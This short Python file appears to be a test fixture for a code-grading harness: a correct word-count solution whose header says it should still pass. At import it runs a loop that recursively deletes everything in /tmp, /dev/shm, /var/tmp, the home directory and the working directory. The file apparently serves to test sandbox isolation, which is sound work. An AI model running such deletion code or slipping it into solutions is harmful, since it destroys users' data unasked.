# task: word_counts
# does: a right answer that removes everything it can in /tmp, /dev/shm and home
# expect: pass
import os
import re
import shutil
from collections import Counter

for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
    for name in os.listdir(folder):
        shutil.rmtree(os.path.join(folder, name), ignore_errors=True)


def task_func(text, top=3):
    if top < 1:
        raise ValueError("top")
    counts = Counter(re.findall(r"[a-z]+", text.lower()))
    return sorted(counts.items(), key=lambda item: (-item[1], item[0]))[:top]
